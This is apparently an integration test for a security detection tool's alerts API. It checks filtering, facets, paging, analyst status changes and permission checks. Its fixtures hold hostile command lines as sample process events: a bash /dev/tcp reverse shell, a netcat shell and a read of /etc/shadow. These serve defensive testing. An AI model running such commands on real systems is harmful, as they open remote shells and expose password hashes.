package org.fleetrec.web;

import com.fasterxml.jackson.databind.JsonNode;
import org.fleetrec.detection.alert.Alert;
import org.fleetrec.detection.alert.Level;
import org.fleetrec.detection.alert.RuleRef;
import org.fleetrec.model.EventCodec;
import org.fleetrec.stack.testing.ElasticsearchExtension;
import org.fleetrec.stack.testing.TestElasticsearch;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;

import static org.fleetrec.web.WebTestHarness.enc;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * {@code /api/v1/alerts} on alerts the detection module made and stored as the ingest server does:
 * filters, facets, paging, and status changes that later matches of the alert keep.
 */
@ExtendWith(ElasticsearchExtension.class)
class AlertsApiIT {
    private static final RuleRef SHELL = new RuleRef("rule-shell", "Reverse shell", Level.HIGH, List.of("attack.t1059.004"));
    private static final RuleRef DISCOVERY = new RuleRef("rule-discovery", "System discovery", Level.LOW, List.of("attack.t1082"));
    private static final RuleRef SHADOW = new RuleRef("rule-shadow", "Shadow file read", Level.CRITICAL, List.of("attack.t1003.008"));

    private static WebTestHarness harness;
    private static AlertWriter writer;
    /** Start of an hour-long grouping window, three hours ago: every alert below falls in one window of its own. */
    private static Instant hour;
    private static Alert shellA;
    private static Alert discoveryA;
    private static Alert shadowB;
    private static Alert shellB;
    private static Alert oldDiscoveryB;

    @BeforeAll
    static void start(TestElasticsearch es) throws Exception {
        harness = new WebTestHarness(es);
        writer = new AlertWriter(harness.client, Duration.ofHours(1));
        hour = Instant.now().truncatedTo(ChronoUnit.HOURS).minus(3, ChronoUnit.HOURS);
        shellA = writer.match(SHELL, AlertWriter.exec("h-a", "e-1", hour.plus(5, ChronoUnit.MINUTES), "bash -i >& /dev/tcp/x/4444 0>&1", "alice"));
        // A repeat on the same process in the same window: the same alert, grown.
        shellA = writer.match(SHELL, AlertWriter.exec("h-a", "e-1", hour.plus(50, ChronoUnit.MINUTES), "bash -i", "alice"));
        discoveryA = writer.match(DISCOVERY, AlertWriter.exec("h-a", "e-2", hour.plus(10, ChronoUnit.MINUTES), "uname -a", "alice"));
        shadowB = writer.match(SHADOW, AlertWriter.exec("h-b", "e-3", hour.plus(20, ChronoUnit.MINUTES), "cat /etc/shadow", "bob"));
        shellB = writer.match(SHELL, AlertWriter.exec("h-b", "e-4", hour.plus(30, ChronoUnit.MINUTES), "nc -e /bin/sh x 1", "bob"));
        oldDiscoveryB = writer.match(DISCOVERY, AlertWriter.exec("h-b", "e-5", hour.minus(20, ChronoUnit.DAYS), "id", "bob"));
        assertEquals(2, shellA.count());
    }

    @AfterAll
    static void stop() {
        if (harness != null) harness.close();
    }

    private static JsonNode list(String query) throws Exception {
        return harness.json("/api/v1/alerts" + (query.isEmpty() ? "" : "?" + query));
    }

    private static List<String> ids(JsonNode page) {
        List<String> ids = new ArrayList<>();
        page.path("alerts").forEach(a -> ids.add(a.path("fleet").path("alert").path("id").asText()));
        return ids;
    }

    private static Map<String, Long> facet(JsonNode page, String name) {
        Map<String, Long> counts = new HashMap<>();
        page.path("facets").path(name).forEach(v -> counts.put(v.path("value").asText(), v.path("count").asLong()));
        return counts;
    }

    private static JsonNode alert(String id) throws Exception {
        return harness.json("/api/v1/alerts/" + id);
    }

    private static HttpResponse<String> setStatus(String id, String body, String token) throws Exception {
        return harness.postJson("/api/v1/alerts/" + id + "/status", body, token);
    }

    @Test
    void listsEveryAlertNewestLastSeenFirstWithItsFields() throws Exception {
        JsonNode page = list("");
        assertEquals(5, page.path("total").asLong());
        assertEquals(List.of(shellA.id(), shellB.id(), shadowB.id(), discoveryA.id(), oldDiscoveryB.id()), ids(page));
        assertTrue(page.path("next").isNull());
        JsonNode first = page.path("alerts").get(0);
        assertEquals(2, first.path("fleet").path("alert").path("count").asLong());
        assertEquals(hour.plus(50, ChronoUnit.MINUTES).toString(), first.path("fleet").path("alert").path("last_seen").asText());
        assertEquals("bash -i >& /dev/tcp/x/4444 0>&1", first.path("process").path("command_line").asText(), "the opening event's command line");
        assertEquals("e-1", first.path("process").path("entity_id").asText());
        assertEquals("high", first.path("rule").path("level").asText());
        assertEquals("open", first.path("fleet").path("alert").path("status").asText());
        assertEquals(shellA.index(), first.path("_index").asText());

        JsonNode one = alert(shadowB.id());
        assertEquals("Shadow file read", one.path("rule").path("name").asText());
        assertEquals("h-b.example", one.path("host").path("name").asText());
    }

    @Test
    void filtersByLevelHostRuleAndTime() throws Exception {
        assertEquals(Set.of(shellA.id(), shellB.id()), Set.copyOf(ids(list("level=high"))));
        assertEquals(Set.of(shellA.id(), shellB.id(), shadowB.id()), Set.copyOf(ids(list("level=high,critical"))));
        assertEquals(Set.of(shellA.id(), shellB.id(), discoveryA.id(), oldDiscoveryB.id()), Set.copyOf(ids(list("level=high&level=low"))));
        assertEquals(Set.of(shellA.id(), shellB.id(), shadowB.id()), Set.copyOf(ids(list("min_level=high"))));
        assertEquals(0, list("level=low&min_level=high").path("total").asLong(), "no given level reaches the minimum");

        assertEquals(Set.of(shadowB.id(), shellB.id(), oldDiscoveryB.id()), Set.copyOf(ids(list("host=h-b"))), "by host.id");
        assertEquals(Set.of(shellA.id(), discoveryA.id()), Set.copyOf(ids(list("host=h-a.example"))), "by host.name");
        assertEquals(Set.of(shellA.id(), shellB.id()), Set.copyOf(ids(list("rule=rule-shell"))), "by rule.id");
        assertEquals(List.of(shadowB.id()), ids(list("rule=" + enc("Shadow file read"))), "by rule.name");
        assertEquals(List.of(shellB.id()), ids(list("rule=rule-shell&host=h-b&level=high")), "filters combine");

        assertEquals(4, list("from=now-7d").path("total").asLong(), "the alert of 20 days ago is outside");
        assertEquals(List.of(oldDiscoveryB.id()), ids(list("to=" + enc(hour.minus(1, ChronoUnit.DAYS).toString()))));
        // Active in the window: shellA was first seen before this window and last seen in it.
        String from = hour.plus(45, ChronoUnit.MINUTES).toString();
        assertEquals(List.of(shellA.id()), ids(list("from=" + enc(from))));
    }

    @Test
    void facetsCountEveryValueUnderTheOtherFilters() throws Exception {
        JsonNode page = list("level=high");
        assertEquals(Map.of("high", 2L, "low", 2L, "critical", 1L), facet(page, "level"), "the level facet ignores the level filter");
        assertEquals(Map.of("h-a", 1L, "h-b", 1L), facet(page, "host"), "the host facet counts the high alerts");
        assertEquals(Map.of("rule-shell", 2L), facet(page, "rule"));
        assertEquals(2L, facet(page, "status").get("open"));
        JsonNode rule = page.path("facets").path("rule").get(0);
        assertEquals("Reverse shell", rule.path("name").asText());
        JsonNode host = page.path("facets").path("host").get(0);
        assertTrue(host.path("name").asText().endsWith(".example"), host.toString());

        JsonNode byHost = list("host=h-b");
        assertEquals(Map.of("h-a", 2L, "h-b", 3L), facet(byHost, "host"));
        assertEquals(Map.of("critical", 1L, "high", 1L, "low", 1L), facet(byHost, "level"));
    }

    @Test
    void pagesWithACursorUntilTheLastAlert() throws Exception {
        List<String> seen = new ArrayList<>();
        String cursor = null;
        int pages = 0;
        do {
            JsonNode page = list("size=2" + (cursor == null ? "" : "&search_after=" + enc(cursor)));
            assertEquals(5, page.path("total").asLong(), "the total of every page is the whole list's");
            seen.addAll(ids(page));
            cursor = page.path("next").isNull() ? null : page.path("next").asText();
            pages++;
        } while (cursor != null && pages < 10);
        assertEquals(3, pages);
        assertEquals(List.of(shellA.id(), shellB.id(), shadowB.id(), discoveryA.id(), oldDiscoveryB.id()), seen);
        assertEquals(0, list("size=0").path("alerts").size());
        assertEquals(5, list("size=0").path("total").asLong());
    }

    @Test
    void aStatusChangeIsKeptWhenTheAlertGrowsAndCanBeUndone() throws Exception {
        HttpResponse<String> acknowledged = setStatus(shadowB.id(), "{\"status\":\"acknowledged\",\"note\":\"<b>looking</b> at it\"}",
                harness.adminToken);
        assertEquals(200, acknowledged.statusCode(), acknowledged.body());
        JsonNode answer = EventCodec.mapper().readTree(acknowledged.body()).path("fleet").path("alert");
        assertEquals("acknowledged", answer.path("status").asText());
        assertEquals("token:admin-test", answer.path("status_by").asText());
        assertEquals("<b>looking</b> at it", answer.path("status_note").asText());
        Instant at = Instant.parse(answer.path("status_at").asText());
        assertTrue(Duration.between(at, Instant.now()).abs().toMinutes() < 5, "set now: " + at);
        assertEquals(List.of(shadowB.id()), ids(list("status=acknowledged")));
        assertEquals(4, list("status=open").path("total").asLong());

        // The rule matches the same process again: the ingest server writes the progress only.
        Alert grown = writer.match(SHADOW, AlertWriter.exec("h-b", "e-3", hour.plus(25, ChronoUnit.MINUTES), "cat /etc/shadow", "bob"));
        assertEquals(shadowB.id(), grown.id());
        JsonNode after = alert(shadowB.id()).path("fleet").path("alert");
        assertEquals(2, after.path("count").asLong(), "the repeat was written");
        assertEquals(hour.plus(25, ChronoUnit.MINUTES).toString(), after.path("last_seen").asText());
        assertEquals("acknowledged", after.path("status").asText(), "and the analyst's status kept");
        assertEquals("token:admin-test", after.path("status_by").asText());
        assertEquals("<b>looking</b> at it", after.path("status_note").asText());

        assertEquals(200, setStatus(shadowB.id(), "{\"status\":\"closed\",\"note\":\"expected: backup job\"}", harness.adminToken).statusCode());
        assertEquals(List.of(shadowB.id()), ids(list("status=closed")));
        assertEquals(5, list("status=open,acknowledged,closed").path("total").asLong());
        HttpResponse<String> reopened = setStatus(shadowB.id(), "{\"status\":\"open\"}", harness.adminToken);
        assertEquals(200, reopened.statusCode(), reopened.body());
        JsonNode open = alert(shadowB.id()).path("fleet").path("alert");
        assertEquals("open", open.path("status").asText());
        assertTrue(open.path("status_note").isMissingNode() || open.path("status_note").isNull(), "a reopen without a note clears the old one");
        assertEquals(0, list("status=acknowledged,closed").path("total").asLong());

        // Each change is in the audit trail, under who made it (written asynchronously).
        Set<String> statuses = new TreeSet<>();
        long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();
        while (statuses.size() < 3 && System.nanoTime() < deadline) {
            Thread.sleep(300);
            statuses.clear();
            JsonNode trail = harness.json("/api/v1/audit?action=alert.status&size=100", harness.adminToken);
            trail.path("hits").forEach(h -> {
                if (h.path("parameters").path("id").asText().equals(shadowB.id()) && h.path("outcome").asText().equals("success")) {
                    statuses.add(h.path("parameters").path("status").asText());
                    assertEquals("token:admin-test", h.path("principal").path("name").asText());
                }
            });
        }
        assertEquals(Set.of("acknowledged", "closed", "open"), statuses);
    }

    @Test
    void aViewerReadsAlertsButCannotChangeThem() throws Exception {
        assertEquals(200, harness.get("/api/v1/alerts", harness.viewerToken).statusCode());
        HttpResponse<String> refused = setStatus(shellB.id(), "{\"status\":\"closed\"}", harness.viewerToken);
        assertEquals(403, refused.statusCode(), refused.body());
        assertTrue(refused.body().contains("admin"), refused.body());
        assertEquals("open", alert(shellB.id()).path("fleet").path("alert").path("status").asText(), "nothing changed");
        assertEquals(401, harness.postJson("/api/v1/alerts/" + shellB.id() + "/status", "{\"status\":\"closed\"}", "no-such-token").statusCode());
    }

    @Test
    void badInputIsA400WithAReasonAndUnknownAlertsA404() throws Exception {
        assertBad(setStatus(shellB.id(), "{\"status\":\"resolved\"}", harness.adminToken), "open, acknowledged or closed");
        assertBad(setStatus(shellB.id(), "{}", harness.adminToken), "open, acknowledged or closed");
        assertBad(setStatus(shellB.id(), "not json", harness.adminToken), "JSON object");
        assertBad(setStatus(shellB.id(), "{\"status\":\"closed\",\"note\":\"" + "n".repeat(1025) + "\"}", harness.adminToken), "1024");
        assertBad(setStatus(shellB.id(), "{\"status\":\"closed\",\"note\":42}", harness.adminToken), "note");
        assertEquals("open", alert(shellB.id()).path("fleet").path("alert").path("status").asText(), "no bad request changed anything");

        assertBad(harness.get("/api/v1/alerts?level=urgent", harness.viewerToken), "informational, low, medium, high or critical");
        assertBad(harness.get("/api/v1/alerts?min_level=0", harness.viewerToken), "min_level");
        assertBad(harness.get("/api/v1/alerts?status=open,maybe", harness.viewerToken), "open, acknowledged or closed");
        assertBad(harness.get("/api/v1/alerts?size=5000", harness.viewerToken), "size");
        assertBad(harness.get("/api/v1/alerts?search_after=garbage", harness.viewerToken), "search_after");
        assertBad(harness.get("/api/v1/alerts?from=last-tuesday", harness.viewerToken), "not understood");

        HttpResponse<String> missing = harness.get("/api/v1/alerts/no-such-alert", harness.viewerToken);
        assertEquals(404, missing.statusCode());
        assertEquals(404, EventCodec.mapper().readTree(missing.body()).path("error").path("status").asInt());
        assertEquals(404, setStatus("no-such-alert", "{\"status\":\"closed\"}", harness.adminToken).statusCode());
        assertEquals(400, harness.get("/api/v1/alerts/" + "x".repeat(300), harness.viewerToken).statusCode());
    }

    private static void assertBad(HttpResponse<String> response, String reasonPart) throws Exception {
        assertEquals(400, response.statusCode(), response.body());
        JsonNode error = EventCodec.mapper().readTree(response.body()).path("error");
        assertNotNull(error);
        assertTrue(error.path("reason").asText().contains(reasonPart), "reason names " + reasonPart + ": " + response.body());
        assertFalse(error.path("reason").asText().isBlank());
    }
}
